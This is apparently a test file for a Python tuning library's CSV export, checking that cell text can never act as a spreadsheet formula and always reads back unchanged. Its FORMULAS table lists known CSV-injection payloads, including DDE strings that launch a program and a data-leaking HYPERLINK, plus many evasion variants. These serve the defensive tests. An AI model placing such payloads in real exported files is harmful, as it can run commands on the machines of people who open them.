"""Cells of a CSV file: nothing in them acts, wherever they are opened, and every text comes back."""

from __future__ import annotations

import csv
import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

import pizzatune as pt
from pizzatune.cells import from_cell, to_cell
from pizzatune.parameters import Choice, Integer, Real
from pizzatune.space import Space
from pizzatune.trial import Trial, from_csv, to_csv
from tests.how_often import CI

FORMULAS = {
    "equals": "=1+1",
    "a web page": '=HYPERLINK("http://example.org/?"&A1,"click")',
    "a program": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a tab first": "\t=1+1",
    "a carriage return first": "\r=1+1",
    "a line break first": "\n=1+1",
    "spaces first": "   =1+1",
    "a hard space first": "\u00a0=1+1",
    "a letter that nobody sees first": "\u200b=1+1",
    "a byte order mark first": "\ufeff=1+1",
    "NUL first": "\0=1+1",
    "full width": "\uff1d1+1",
    "full width plus": "\uff0b1+1",
    "full width at": "\uff20SUM(A1)",
    "small equals": "\ufe661+1",
    "a true minus": "\u22121+A1",
    "in quotes": '"=1+1"',
    "behind quotes": '""=1+1',
    "behind a semicolon": "burnt;=1+1",
    "behind a semicolon in quotes": 'burnt;"=1+1"',
    "behind a tab": "burnt\t@SUM(A1)",
    "behind a bar": "burnt|-A1",
    "behind a line break": "burnt\n=1+1",
    "behind two line breaks": "burnt\r\n\r\n+A1",
    "with an apostrophe already": "'=1+1",
    "with two": "''=1+1",
    "like a number": "-7+A1",
    "infinite": "-inf",
}
SPACE = Space(Choice("oven", ["Stone", "Electric"]), Integer("minutes", 4, 20))


def acts(cell):
    """Whether a spreadsheet might take a cell for a formula: by the four, whatever they look like."""
    first = re.sub(r"^[\s\x00-\x1f\u00a0\u200b\ufeff]+", "", cell)[:1]
    number = re.fullmatch(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?", cell)
    return bool(first) and first in "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\u2212" and not number


def cells_as(path, mark):
    """All cells as they are seen where this mark sets them apart, with or without a care for quotes."""
    with path.open(encoding="utf-8", newline="") as file:
        text = file.read()
    cells = {cell for row in csv.reader(text.splitlines(), delimiter=mark) for cell in row}
    return cells | {cell.strip('"') for line in text.splitlines() for cell in line.split(mark) if mark != ","}


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS.keys())
def test_a_text_that_reads_like_a_formula_does_not_act_and_comes_back(text, tmp_path):
    space = Space(Choice(text, ["plain", text]), Real("heat", -300, 300))
    trials = [
        Trial(0, {text: text, "heat": -7.5}, None, error=text, why=text),
        Trial(1, {text: "plain", "heat": 1e-9}, -6.25, why=f"because of {text}"),
    ]
    to_csv(trials, tmp_path / "run.csv", space)
    for mark in ",;\t|":
        assert not [cell for cell in cells_as(tmp_path / "run.csv", mark) if acts(cell)]
    assert from_csv(tmp_path / "run.csv", space) == trials


def test_numbers_stay_numbers(tmp_path):
    space = Space(Choice("offset", [-5, 5, -0.5, 1e-7]), Real("heat", -300, 300))
    trials = [Trial(n, {"offset": -0.5, "heat": -7.5}, -6.25) for n in range(2)]
    to_csv(trials, tmp_path / "run.csv", space)
    assert (tmp_path / "run.csv").read_text(encoding="utf-8").splitlines()[1] == "-0.5,-7.5,-6.25,,"
    assert [to_cell(text) for text in ("-5", "+3", "-1e-07", ".5", "-2.")] == [
        "-5",
        "+3",
        "-1e-07",
        ".5",
        "-2.",
    ]


letters = st.one_of(
    st.characters(exclude_categories=()),
    st.sampled_from(
        ["=", "+", "-", "@", "\t", "\r", "\n", ";", "|", '"', "'", " ", "\\", "\\ud83c", "ud83c"]
    ),
    st.sampled_from(["\ud83c", "\udf55", "\udc80", "\0", "\ufeff", "\uff1d", "u0000", "\\\\", "\u200b"]),
    st.sampled_from(["\1", "\b", "u0008", "\x1a", "\x7f"]),
)
texts = st.lists(letters, max_size=9).map("".join)


@settings(max_examples=2000 if CI else 150)
@given(texts)
@example("\\\ud83c")
@example("\\\\ud83c")
@example("'\\u0000'=")
def test_every_text_comes_back_from_its_cell(text):
    cell = to_cell(text)
    assert from_cell(cell) == text
    assert cell.encode().decode() == cell  # so a file in UTF-8 can hold it
    assert "\0" not in cell
    assert not acts(cell)


@settings(max_examples=300 if CI else 20)
@given(texts, texts, texts)
@example("\r", "", "")
@example(" ", "", "")
@example("' ", " ", "'")
def test_every_text_comes_back_from_its_file(tmp_path_factory, error, why, label):
    path = tmp_path_factory.getbasetemp() / "texts.csv"
    space = Space(Choice("oven", [1, 2], labels=["plain", label if label != "plain" else "same"]))
    trials = [
        Trial(0, {"oven": 2}, None, error=error or "none", why=why),
        Trial(1, {"oven": 1}, 1.0, why=error),
    ]
    to_csv(trials, path, space)
    assert from_csv(path, space) == trials


HALVES = ["odd \udc80 letter", "\ud83c", "\udf55\ud83c", "\\udc80", "\\\\\udc80", "C:\\ude00\\uff", "x\0y"]
CONTROLS = [bytes(range(32)).decode(), "99%\b\b\b100%\x7f", "\1=1+1", "C:\\u0001\x1a", "PK\3\4\x1c"]


@pytest.mark.parametrize("text", HALVES + CONTROLS, ids=ascii)
def test_letters_that_no_file_can_hold_are_written_and_come_back(text, tmp_path):
    trials = [Trial(0, {"oven": "Stone", "minutes": 7}, None, error=text, why=text)]
    to_csv(trials, tmp_path / "run.csv", SPACE)
    assert (tmp_path / "run.csv").read_bytes().decode("utf-8").count("\\u") >= 1
    assert from_csv(tmp_path / "run.csv", SPACE) == trials


LONG = {
    "words": "burnt " * 30_000,
    "line breaks": "\n" * 140_000,
    "equals": "=" * 140_000,
    "quotes": "'\"" * 70_000,
    "spaces": ";" + " " * 140_000,
    "backslashes": "\\" * 140_000,
    "halves": "\ud83c" * 30_000,
}


@pytest.mark.parametrize("text", LONG.values(), ids=LONG.keys())
def test_a_text_of_any_length_comes_back_in_time(text, tmp_path):
    trials = [Trial(0, {"oven": "Stone", "minutes": 7}, None, error=text, why="a guess")]
    limit, begin = csv.field_size_limit(), time.monotonic()
    to_csv(trials, tmp_path / "run.csv", SPACE)
    assert from_csv(tmp_path / "run.csv", SPACE) == trials
    assert time.monotonic() - begin < 10  # a second or less; what takes each letter by each takes hours
    assert csv.field_size_limit() == limit


def test_a_menu_reads_what_was_written(tmp_path):
    space = Space(Choice("topping", ["=Ham", "Tuna"]), Integer("minutes", 4, 20))
    toppings = enumerate(["=Ham", "Tuna", "=Ham", "Tuna"])
    to_csv(
        [Trial(n, {"topping": t, "minutes": 4 + n}, 6.0 + n) for n, t in toppings],
        tmp_path / "run.csv",
        space,
    )
    menu = pt.menus.from_csv(tmp_path / "run.csv", columns=["topping", "minutes"])
    assert menu.space["topping"].options == ("=Ham", "Tuna")
